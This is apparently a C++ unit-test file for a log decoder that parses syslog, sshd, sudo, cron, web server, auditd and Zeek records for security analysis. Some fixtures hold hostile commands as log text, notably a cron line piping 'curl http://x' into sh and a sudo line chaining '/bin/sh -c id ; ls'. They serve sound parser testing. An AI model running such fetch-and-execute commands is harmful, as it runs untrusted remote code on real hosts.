#include "codec/text/text_lines.h"

#include <gtest/gtest.h>

#include "base/text.h"
#include "codec/test_events.h"

namespace yorozu::codec::text {
namespace {

using testing::ReadEvent;
using testing::Reading;

const Timestamp kWritten = *parse_time("2026-01-02T00:00:00Z");

Reading read(std::string_view text, Charset charset = Charset::Utf8, std::size_t window = std::size_t{1} << 20) {
  event::Schema schema;
  const DecodeOptions options{.charset = charset};
  const auto splitter = make_splitter(options);
  const auto decoder = make_decoder(schema, event::LogsourceMap::builtin(), options);
  return testing::read_all(
      *splitter, *decoder, schema,
      {.bytes = text, .charset = charset, .header = find_header(text), .written = kWritten, .window = window});
}

ReadEvent read_one(std::string_view text) {
  const Reading reading = read(text);
  EXPECT_EQ(reading.events.size(), 1U) << text;
  return reading.events.empty() ? ReadEvent{} : reading.events[0];
}

TEST(TextLines, AnyLineIsAMessageWithItsNumberAndPlace) {
  const Reading reading = read("first\r\n\nthird\nlast", Charset::Utf8, 8);
  ASSERT_EQ(reading.events.size(), 3U);
  EXPECT_EQ(reading.events[0]["Message"], "first");
  EXPECT_EQ(reading.events[1]["Message"], "third");
  EXPECT_EQ(reading.events[1].line, 3U);
  EXPECT_EQ(reading.events[1].position, 8U);
  EXPECT_EQ(reading.events[2].line, 4U);
  EXPECT_EQ(reading.events[2].logsource, 0);
  EXPECT_EQ(reading.events[2].time, "");
}

TEST(TextLines, JapaneseCharsetsAreConverted) {
  const std::string expected = "日本語のログ";
  const std::vector<std::pair<Charset, std::string>> texts = {
      {Charset::ShiftJis, "\x93\xfa\x96\x7b\x8c\xea\x82\xcc\x83\x8d\x83\x4f\nascii\n"},
      {Charset::EucJp, "\xc6\xfc\xcb\xdc\xb8\xec\xa4\xce\xa5\xed\xa5\xb0\nascii\n"},
      {Charset::Iso2022Jp, "\x1b$BF|K\\8l$N%m%0\x1b(B\nascii\n"},
      {Charset::Utf16Le, utf16le_from_utf8("\xEF\xBB\xBF" + expected + "\r\nascii\r\n")},
      {Charset::Utf8, "\xEF\xBB\xBF" + expected + "\nascii\n"},
  };
  for (const auto& [charset, bytes] : texts) {
    const Reading reading = read(bytes, charset, 4);
    ASSERT_EQ(reading.events.size(), 2U) << to_string(charset);
    EXPECT_EQ(reading.events[0]["Message"], expected) << to_string(charset);
    EXPECT_EQ(reading.events[0].raw, expected) << to_string(charset);
    EXPECT_EQ(reading.events[1]["Message"], "ascii");
    EXPECT_EQ(reading.events[1].line, 2U);
  }
}

TEST(TextLines, AByteThatIsNotUtf8IsDamageAndReplaced) {
  const Reading reading = read(
      "good\nb\xE9"
      "d\n");
  ASSERT_EQ(reading.events.size(), 2U);
  EXPECT_EQ(reading.events[1]["Message"],
            "b\xEF\xBF\xBD"
            "d");
  ASSERT_EQ(reading.damages.size(), 1U);
  EXPECT_EQ(reading.damages[0].kind, DamageKind::Encoding);
  EXPECT_EQ(reading.damages[0].record, 2U);
}

TEST(Syslog, TheThreeWritingsOfThePrefixGiveTheSameFields) {
  for (const std::string_view line :
       {"<38>Nov 24 01:02:03 web1 sshd[42]: Failed password for invalid user bob from 192.0.2.7 port 4711 ssh2",
        "Nov 24 01:02:03 web1 sshd[42]: Failed password for invalid user bob from 192.0.2.7 port 4711 ssh2",
        "2025-11-24T10:02:03.000000+09:00 web1 sshd[42]: Failed password for invalid user bob from 192.0.2.7 port 4711 "
        "ssh2",
        "<38>1 2025-11-24T01:02:03Z web1 sshd 42 - - Failed password for invalid user bob from 192.0.2.7 port 4711 "
        "ssh2"}) {
    const ReadEvent event = read_one(line);
    EXPECT_EQ(event.time, "2025-11-24T01:02:03.000000Z") << line;
    EXPECT_EQ(event.host, "web1") << line;
    EXPECT_EQ(event["program"], "sshd") << line;
    EXPECT_EQ(event["pid"], "42") << line;
    EXPECT_EQ(event["user"], "bob") << line;
    EXPECT_EQ(event["source_ip"], "192.0.2.7") << line;
    EXPECT_EQ(event["port"], "4711") << line;
    EXPECT_EQ(event["Message"], "Failed password for invalid user bob from 192.0.2.7 port 4711 ssh2") << line;
    EXPECT_EQ(event.raw, line);
    EXPECT_EQ(source_of(event), "linux//sshd") << line;
  }
  EXPECT_EQ(read_one("<38>Nov 24 01:02:03 web1 x: y")["facility"], "auth");
  EXPECT_EQ(read_one("<38>Nov 24 01:02:03 web1 x: y")["severity"], "info");
}

TEST(Syslog, ATimeWithoutAYearIsTheLastOneBeforeTheFileWasWritten) {
  EXPECT_EQ(read_one("Dec 31 23:59:59 h p: m").time, "2025-12-31T23:59:59.000000Z");
  EXPECT_EQ(read_one("Jan  1 00:00:01 h p: m").time, "2026-01-01T00:00:01.000000Z");
  EXPECT_EQ(read_one("Jan 9 00:00:01 h p: m").time, "2025-01-09T00:00:01.000000Z");
  EXPECT_EQ(read_one("Jan  9 2019 00:00:01 h p: m").time, "2019-01-09T00:00:01.000000Z");
}

TEST(Syslog, StructuredDataIsKeptWhole) {
  const ReadEvent event =
      read_one(R"(<165>1 2026-11-24T01:02:03.5Z h app 8 ID47 [a@1 k="v \"]\""][b@2 x="y"] text here)");
  EXPECT_EQ(event["structured_data"], R"([a@1 k="v \"]\""][b@2 x="y"])");
  EXPECT_EQ(event["message_id"], "ID47");
  EXPECT_EQ(event["Message"], "text here");
}

TEST(Syslog, WhatSshdSaysGivesUserAndAddress) {
  const std::vector<std::tuple<std::string, std::string, std::string>> lines = {
      {"Accepted publickey for alice from 2001:db8::7 port 22 ssh2: RSA SHA256:x", "alice", "2001:db8::7"},
      {"Invalid user webmaster from 173.234.31.186", "webmaster", "173.234.31.186"},
      {"Failed password for root from 192.0.2.1 port 1 ssh2", "root", "192.0.2.1"},
      {"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.33.63.160 "
       "user=workshop",
       "workshop", "5.33.63.160"},
      {"pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", "alice", "(none)"},
      {"Disconnected from authenticating user root 192.0.2.9 port 40 [preauth]", "root", "192.0.2.9"},
      {"Connection closed by invalid user admin 192.0.2.9 port 40 [preauth]", "admin", "192.0.2.9"},
      {"reverse mapping checking getaddrinfo for a.example.org [192.0.2.3] failed - POSSIBLE BREAK-IN ATTEMPT!",
       "(none)", "192.0.2.3"},
      {"Did not receive identification string from 192.0.2.4", "(none)", "192.0.2.4"},
  };
  for (const auto& [message, user, address] : lines) {
    const ReadEvent event = read_one("Dec 10 06:55:46 LabSZ sshd[24200]: " + message);
    EXPECT_EQ(event["user"], user) << message;
    EXPECT_EQ(event["source_ip"], address) << message;
  }
}

TEST(Syslog, SudoCronAndSuGiveWhoDidWhat) {
  const ReadEvent sudo = read_one(
      "Dec 10 06:55:46 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c id ; ls");
  EXPECT_EQ(source_of(sudo), "linux//sudo");
  EXPECT_EQ(sudo["user"], "alice");
  EXPECT_EQ(sudo["target_user"], "root");
  EXPECT_EQ(sudo["USER"], "root");
  EXPECT_EQ(sudo["command"], "/bin/sh -c id ; ls");
  const ReadEvent cron = read_one("Dec 10 06:55:46 h CRON[7]: (root) CMD (curl http://x | sh)");
  EXPECT_EQ(source_of(cron), "linux//cron");
  EXPECT_EQ(cron["user"], "root");
  EXPECT_EQ(cron["command"], "curl http://x | sh");
  const ReadEvent su = read_one("Dec 10 06:55:46 h su[9]: (to root) alice on pts/0");
  EXPECT_EQ(su["user"], "alice");
  EXPECT_EQ(su["target_user"], "root");
  const ReadEvent added = read_one("Dec 10 06:55:46 h useradd[9]: new user: name=eve, UID=1001, GID=1001");
  EXPECT_EQ(source_of(added), "linux//auth");
  EXPECT_EQ(added["user"], "eve");
}

TEST(Syslog, VpnLoginsGiveUserAndAddress) {
  const ReadEvent event = read_one(
      "Dec 10 06:55:46 gw openvpn[9]: 203.0.113.5:49152 [alice] Peer Connection Initiated with "
      "[AF_INET]203.0.113.5:49152");
  EXPECT_EQ(source_of(event), "/vpn/");
  EXPECT_EQ(event["user"], "alice");
  EXPECT_EQ(event["source_ip"], "203.0.113.5");
}

TEST(Syslog, SysmonForLinuxIsTheEventInsideItsLine) {
  const ReadEvent event = read_one(
      "May 11 18:10:20 u5 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><TimeCreated "
      "SystemTime=\"2022-05-11T18:10:20.399931Z\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>u5</Computer></"
      "System>"
      "<EventData><Data Name=\"CommandLine\">id</Data></EventData></Event>");
  EXPECT_EQ(event.channel, "Linux-Sysmon/Operational");
  EXPECT_EQ(event.event_id, 1U);
  EXPECT_EQ(event["CommandLine"], "id");
  EXPECT_EQ(event.time, "2022-05-11T18:10:20.399931Z");
  EXPECT_EQ(event.host, "u5");
}

TEST(SyslogVariants, DevicesWriteTheirEnvelopesInTheirOwnWays) {
  struct Case {
    std::string line, time, host, program, message;
  };
  const std::string time = "2025-11-24T01:02:03.000000Z";
  for (const Case& c : std::vector<Case>{
           {"<189>29: *Nov 24 01:02:03.000: %SYS-5-CONFIG_I: text", time, "", "%SYS-5-CONFIG_I", "text"},
           {"<189>000123: Nov 24 01:02:03 JST: %SEC-6-IPACCESSLOGP: text", time, "", "%SEC-6-IPACCESSLOGP", "text"},
           {"<166>Nov 24 2025 01:02:03 asa1 : %ASA-6-302013: text", time, "asa1", "%ASA-6-302013", "text"},
           {"<166>Nov 24 2025 01:02:03: %ASA-6-302013: text", time, "", "%ASA-6-302013", "text"},
           {"<164>%ASA-4-106023: text", "", "", "%ASA-4-106023", "text"},
           {"<134>PP[01] Rejected at IN(1) filter: x", "", "", "", "PP[01] Rejected at IN(1) filter: x"},
           {"<14>2025 Nov 24 01:02:03 sw1 prog: text", time, "sw1", "prog", "text"},
           {"\xEF\xBB\xBF<14>Nov 24 01:02:03 h prog: text", time, "h", "prog", "text"},
           {"Nov 24 01:02:03 h sshd[42] text", time, "h", "sshd", "text"},
           {"2025-11-24T10:02:03.000000+09:00 gw1 text without a program", time, "gw1", "", "text without a program"},
           {"<14>1 2025-11-24T01:02:03Z nas1 WinFileService - - - text", time, "nas1", "WinFileService", "text"},
           {"Nov 24 01:02:03 h last message repeated 3 times", time, "h", "", "last message repeated 3 times"},
       }) {
    const ReadEvent event = read_one(c.line);
    EXPECT_EQ(event.time, c.time) << c.line;
    EXPECT_EQ(event.host, c.host) << c.line;
    EXPECT_EQ(event["program"], c.program.empty() ? "(none)" : c.program) << c.line;
    EXPECT_EQ(event["Message"], c.message) << c.line;
  }
}

TEST(SyslogVariants, ALevelBehindATimeIsNoHost) {
  const ReadEvent event = read_one("2025-11-24 01:02:03 INFO org.example.Server: started by user \"alice\"");
  EXPECT_EQ(event.host, "");
  EXPECT_EQ(event["level"], "INFO");
  EXPECT_EQ(event["component"], "org.example.Server");
  EXPECT_EQ(event["user"], "alice");
}

TEST(SyslogVariants, ParametersOfStructuredDataAreFields) {
  const ReadEvent event = read_one(R"(<165>1 2025-11-24T01:02:03Z h app 8 - [a@1 k="v \"\]\""][b@2 x="y"] text)");
  EXPECT_EQ(event["k"], "v \"]\"");
  EXPECT_EQ(event["x"], "y");
}

TEST(AccessLog, CombinedFormatHasW3cNames) {
  const ReadEvent event = read_one(
      R"(192.0.2.1 - bob [24/Nov/2026:10:02:03 +0900] "GET /a/b.php?id=1%27 HTTP/1.1" 404 123 "https://example.org/" "curl/8 \"x\"")");
  EXPECT_EQ(source_of(event), "/webserver/");
  EXPECT_EQ(event.time, "2026-11-24T01:02:03.000000Z");
  EXPECT_EQ(event["c-ip"], "192.0.2.1");
  EXPECT_EQ(event["cs-username"], "bob");
  EXPECT_EQ(event["cs-method"], "GET");
  EXPECT_EQ(event["cs-uri-stem"], "/a/b.php");
  EXPECT_EQ(event["cs-uri-query"], "id=1%27");
  EXPECT_EQ(event["cs-uri"], "/a/b.php?id=1%27");
  EXPECT_EQ(event["sc-status"], "404");
  EXPECT_EQ(event["cs-referer"], "https://example.org/");
  EXPECT_EQ(event["cs-user-agent"], R"(curl/8 \"x\")");
}

TEST(AccessLog, CommonFormatAndVirtualHostsAreRead) {
  const ReadEvent common = read_one(R"(2001:db8::1 - - [24/Nov/2026:01:02:03 +0000] "POST /x HTTP/1.0" 200 -)");
  EXPECT_EQ(common["c-ip"], "2001:db8::1");
  EXPECT_EQ(common["cs-username"], "(none)");
  const ReadEvent host =
      read_one(R"(www.example.org:443 192.0.2.1 - - [24/Nov/2026:01:02:03 +0000] "-" 408 0 "-" "-")");
  EXPECT_EQ(host.host, "www.example.org");
  EXPECT_EQ(host["sc-status"], "408");
}

TEST(AccessLog, ErrorLogsOfBothServersAreRead) {
  const ReadEvent apache =
      read_one("[Sun Dec 04 04:47:44.123456 2005] [core:error] [pid 9] [client 192.0.2.1:55] File does not exist");
  EXPECT_EQ(source_of(apache), "/webserver/apache");
  EXPECT_EQ(apache.time, "2005-12-04T04:47:44.123456Z");
  EXPECT_EQ(apache["c-ip"], "192.0.2.1");
  const ReadEvent nginx = read_one("2026/11/24 01:02:03 [error] 12#0: *7 open() failed, client: 192.0.2.2, server: x");
  EXPECT_EQ(source_of(nginx), "/webserver/nginx");
  EXPECT_EQ(nginx["c-ip"], "192.0.2.2");
}

TEST(Audit, KeysAreFieldsAndHexTextIsDecoded) {
  const ReadEvent call = read_one(
      R"(type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes a0=558e25052c70 comm="dd" exe="/bin/dd" key=(null))");
  EXPECT_EQ(source_of(call), "linux//auditd");
  EXPECT_EQ(call.time, "2020-11-10T08:19:44.965000Z");
  EXPECT_EQ(call.record_id, 93777U);
  EXPECT_EQ(call["type"], "SYSCALL");
  EXPECT_EQ(call["SYSCALL"], "execve");
  EXPECT_EQ(call["a0"], "558e25052c70");
  EXPECT_EQ(call["exe"], "/bin/dd");
  const ReadEvent exec =
      read_one(R"(node=h1 type=EXECVE msg=audit(1604996384.965:93777): argc=2 a0="sh" a1=6563686F206869)");
  EXPECT_EQ(exec["a1"], "echo hi");
  EXPECT_EQ(exec.host, "h1");
  const ReadEvent user = read_one(
      R"(type=USER_LOGIN msg=audit(1604996384.965:1): pid=1 uid=0 msg='op=login acct="root" exe="/usr/sbin/sshd" addr=192.0.2.1 res=failed')");
  EXPECT_EQ(user["acct"], "root");
  EXPECT_EQ(user["res"], "failed");
}

TEST(ZeekTsv, ColumnsOfTheHeaderNameTheValues) {
  const std::string log =
      "#separator "
      "\\x09\n#set_separator\t,\n#unset_field\t-\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tAA\n#"
      "types\ttime\tstring\taddr\tbool\n"
      "1692146028.495991\tC1\t192.0.2.1\tT\n1692146029.5\tC2\t192.0.2.1\t-\nbroken\n#close\t2026\n";
  const Reading reading = read(log, Charset::Utf8, 64);
  ASSERT_EQ(reading.events.size(), 3U);
  EXPECT_EQ(source_of(reading.events[0]), "zeek//dns");
  EXPECT_EQ(reading.events[0].time, "2023-08-16T00:33:48.495991Z");
  EXPECT_EQ(reading.events[0]["id.orig_h"], "192.0.2.1");
  EXPECT_EQ(reading.events[0]["AA"], "true");
  EXPECT_EQ(reading.events[1]["AA"], "(null)");
  EXPECT_EQ(reading.events[2]["Message"], "broken");
}

TEST(TextLines, ATimeAtTheFrontOfAnyLineIsTheTimeOfTheEvent) {
  EXPECT_EQ(read_one("2026-11-24 01:02:03,456 INFO started").time, "2026-11-24T01:02:03.456000Z");
  EXPECT_EQ(read_one("[2026-11-24T01:02:03+09:00] started").time, "2026-11-23T16:02:03.000000Z");
}

TEST(TextLines, LinesThatAlmostFitFallBackToAMessage) {
  for (const std::string_view line :
       {"<999>x", "<13", "Nov 24", "Nov 24 99:99:99 h p: m", "type=SYSCALL msg=audit(x): a=b",
        "2026/11/24 01:02:03 [error] 99999999999#0: *7 x, client: 192.0.2.2",
        "a b c [24/Nov/2026:01:02:03 +0000] nothing", "[", "<", "2026-13-45T01:02:03 h p: m",
        "1 2 3 4 5 [24/Nov/2026:01:02:03 +0000] \"GET / HTTP/1.1\" 200 1"})
    EXPECT_EQ(read_one(line)["Message"], line);
}

}  // namespace
}  // namespace yorozu::codec::text
